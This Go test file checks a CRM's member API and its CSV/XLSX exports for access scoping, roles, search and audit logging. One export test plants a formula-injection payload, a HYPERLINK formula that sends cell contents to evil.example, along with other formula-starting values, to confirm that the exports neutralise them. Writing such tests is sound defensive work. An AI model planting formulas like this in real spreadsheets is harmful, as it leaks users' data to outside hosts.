package crm_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/profhub/profhub/crm"
	"github.com/profhub/profhub/internal/security/access"
	"github.com/profhub/profhub/internal/security/audit"
	"github.com/profhub/profhub/internal/security/auth"
	"github.com/profhub/profhub/internal/storage/db"
	"github.com/profhub/profhub/internal/storage/db/dbtest"
)

// call runs one API request as sc against the CRM routes.
func (f *fixture) call(t *testing.T, sc access.Scope, method, path, body string) (int, []byte) {
	t.Helper()
	mux := http.NewServeMux()
	f.s.Routes(mux)
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	req := httptest.NewRequest(method, path, rd)
	req = req.WithContext(auth.WithPrincipal(req.Context(), &auth.Principal{Scope: sc}))
	rec := httptest.NewRecorder()
	mux.ServeHTTP(rec, req)
	return rec.Code, rec.Body.Bytes()
}

func TestMembersAPI(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		f := newFixture(t, d)
		body := `{"unit_id":"` + f.a1.ID + `","surname":"Смирнова","given_name":"Ёлка","phones":["8-912-000-00-01"],"custom":{"a":1,"b":2}}`
		code, out := f.call(t, f.opA1, "POST", "/api/v1/crm/members", body)
		if code != http.StatusCreated {
			t.Fatalf("create = %d %s", code, out)
		}
		var m crm.Member
		_ = json.Unmarshal(out, &m)

		code, out = f.call(t, f.opA1, "POST", "/api/v1/crm/members", body)
		if code != http.StatusConflict || !strings.Contains(string(out), `"code":"duplicate"`) || !strings.Contains(string(out), m.ID) {
			t.Fatalf("duplicate create = %d %s", code, out)
		}
		if code, out = f.call(t, f.opA1, "POST", "/api/v1/crm/members?force=true", body); code != http.StatusCreated {
			t.Fatalf("forced create = %d %s", code, out)
		}
		code, out = f.call(t, f.opA1, "PATCH", "/api/v1/crm/members/"+m.ID, `{"position":"учитель","custom":{"a":null}}`)
		var up crm.Member
		_ = json.Unmarshal(out, &up)
		if code != http.StatusOK || up.Position != "учитель" || up.GivenName != "Ёлка" || len(up.Phones) != 1 || up.Custom["a"] != nil || up.Custom["b"] != 2.0 {
			t.Fatalf("patch = %d %s", code, out)
		}
		if code, out = f.call(t, f.opA1, "PATCH", "/api/v1/crm/members/"+m.ID, `{"nickname":"x"}`); code != http.StatusUnprocessableEntity {
			t.Errorf("unknown field = %d %s", code, out)
		}
		code, out = f.call(t, f.opA1, "GET", "/api/v1/crm/members?q=%D0%B5%D0%BB%D0%BA&limit=1", "") // "елк"
		var page crm.MemberPage
		_ = json.Unmarshal(out, &page)
		if code != http.StatusOK || page.Total != 2 || len(page.Members) != 1 || page.Next == "" {
			t.Fatalf("search = %d %s", code, out)
		}
		code, out = f.call(t, f.opA1, "GET", "/api/v1/crm/members?q=%D0%B5%D0%BB%D0%BA&limit=1&after="+page.Next, "")
		var next crm.MemberPage
		_ = json.Unmarshal(out, &next)
		if code != http.StatusOK || next.Total != 2 || len(next.Members) != 1 || next.Members[0].ID == page.Members[0].ID {
			t.Fatalf("next page = %d %s", code, out)
		}
		for _, c := range []struct {
			sc   access.Scope
			path string
			want int
		}{
			{f.opA2, "/api/v1/crm/members/" + m.ID, http.StatusNotFound},
			{f.opA1, "/api/v1/crm/members/" + m.ID, http.StatusOK},
			{f.opA1, "/api/v1/crm/members?activist=maybe", http.StatusUnprocessableEntity},
			{f.opA1, "/api/v1/crm/members?after=bogus", http.StatusUnprocessableEntity},
			{f.opA1, "/api/v1/crm/organisations/" + f.a1.ID, http.StatusOK},
			{f.opA2, "/api/v1/crm/organisations/" + f.a1.ID, http.StatusNotFound},
			{f.opA1, "/api/v1/crm/members/export?format=pdf", http.StatusUnprocessableEntity},
		} {
			if code, out := f.call(t, c.sc, "GET", c.path, ""); code != c.want {
				t.Errorf("GET %s as %s = %d %s, want %d", c.path, c.sc.UnitID, code, out, c.want)
			}
		}
		if code, out := f.call(t, f.opA2, "GET", "/api/v1/crm/members?q=%2B79120000001", ""); code != http.StatusOK || !strings.Contains(string(out), `"total":0`) {
			t.Errorf("another organisation's phone search = %d %s", code, out)
		}
		if code, out := f.call(t, f.opA1, "PATCH", "/api/v1/crm/organisations/"+f.a1.ID, `{"short_name":"ППО №1"}`); code != http.StatusOK ||
			!strings.Contains(string(out), `"members":2`) {
			t.Errorf("organisation patch = %d %s", code, out)
		}
		if code, out := f.call(t, f.opA1, "POST", "/api/v1/crm/members/"+m.ID+"/merge", `{"drop_id":"`+page.Members[0].ID+`"}`); code != http.StatusForbidden {
			t.Errorf("operator merge = %d %s", code, out)
		}
	})
}

func TestExportIsSafeAndScoped(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		f := newFixture(t, d)
		hostile := `=HYPERLINK("http://evil.example/?"&A1,"Нажми")`
		f.add(t, crm.MemberInput{UnitID: f.a1.ID, Surname: hostile, GivenName: "+cmd", Patronymic: "@SUM(1)",
			Workplace: "-2+3", Phones: []string{"+79120000001"}, CardNumber: "1"})
		f.add(t, crm.MemberInput{UnitID: f.a1.ID, Surname: "Обычная", CardNumber: "2"})
		f.add(t, crm.MemberInput{UnitID: f.a2.ID, Surname: "Чужая", CardNumber: "3"})

		code, out := f.call(t, f.opA1, "GET", "/api/v1/crm/members/export?format=xlsx", "")
		if code != http.StatusOK {
			t.Fatalf("export = %d %s", code, out)
		}
		x, err := excelize.OpenReader(bytes.NewReader(out))
		if err != nil {
			t.Fatal(err)
		}
		defer x.Close()
		sheet := x.GetSheetName(0)
		rows, err := x.GetRows(sheet)
		if err != nil || len(rows) != 3 {
			t.Fatalf("rows = %d, %v", len(rows), err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := x.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s is a formula: %q", cell, formula)
				}
				if v != "" && strings.ContainsRune("=+-@", rune(v[0])) && !quotePrefixed(t, x, sheet, cell) {
					t.Errorf("%s starts a formula: %q", cell, v)
				}
				if v == "Чужая" {
					t.Errorf("another organisation's member exported")
				}
			}
		}
		// The phone is text as typed (no apostrophe), kept text by Excel's
		// quote prefix; the hostile cells still get their apostrophe.
		if rows[1][0] != "'"+hostile || rows[1][1] != "'+cmd" || rows[1][5] != "+79120000001" || rows[2][0] != "Обычная" {
			t.Errorf("row = %q / %q", rows[1], rows[2])
		}

		code, out = f.call(t, f.opA1, "GET", "/api/v1/crm/members/export?format=csv&sort=-name", "")
		if code != http.StatusOK || !bytes.HasPrefix(out, []byte("\uFEFF")) {
			t.Fatalf("csv = %d %s", code, out)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\uFEFF")))).ReadAll()
		if err != nil || len(recs) != 3 || recs[2][0] != "'"+hostile || recs[1][0] != "Обычная" {
			t.Fatalf("csv rows = %q, %v", recs, err)
		}
		// Excel opens ="…" as the text between the quotes.
		if recs[2][5] != `="+79120000001"` || recs[2][1] != "'+cmd" || recs[2][8] != "'-2+3" {
			t.Errorf("csv row = %q", recs[2])
		}
		if code, _ := f.call(t, f.opA1, "GET", "/api/v1/crm/members/export?format=csv&unit_id="+f.a2.ID, ""); code != http.StatusNotFound {
			t.Errorf("export of another organisation = %d", code)
		}
		exec := f.opA1
		exec.Role = access.Executor
		if code, _ := f.call(t, exec, "GET", "/api/v1/crm/members/export?format=csv", ""); code != http.StatusForbidden {
			t.Errorf("executor export = %d", code)
		}
		entries, err := audit.List(f.ctx, d, f.sys, audit.Filter{ObjectType: "member_export"})
		if err != nil || len(entries) != 2 || entries[0].Details["rows"] != 2.0 {
			t.Errorf("export audit = %+v, %v", entries, err)
		}
	})
}

// quotePrefixed reports whether a cell is text with Excel's quote prefix
// (shown as typed, kept text when edited).
func quotePrefixed(t *testing.T, x *excelize.File, sheet, cell string) bool {
	t.Helper()
	id, err := x.GetCellStyle(sheet, cell)
	if err != nil || id == 0 || x.Styles == nil || x.Styles.CellXfs == nil || id >= len(x.Styles.CellXfs.Xf) {
		return false
	}
	q := x.Styles.CellXfs.Xf[id].QuotePrefix
	return q != nil && *q
}
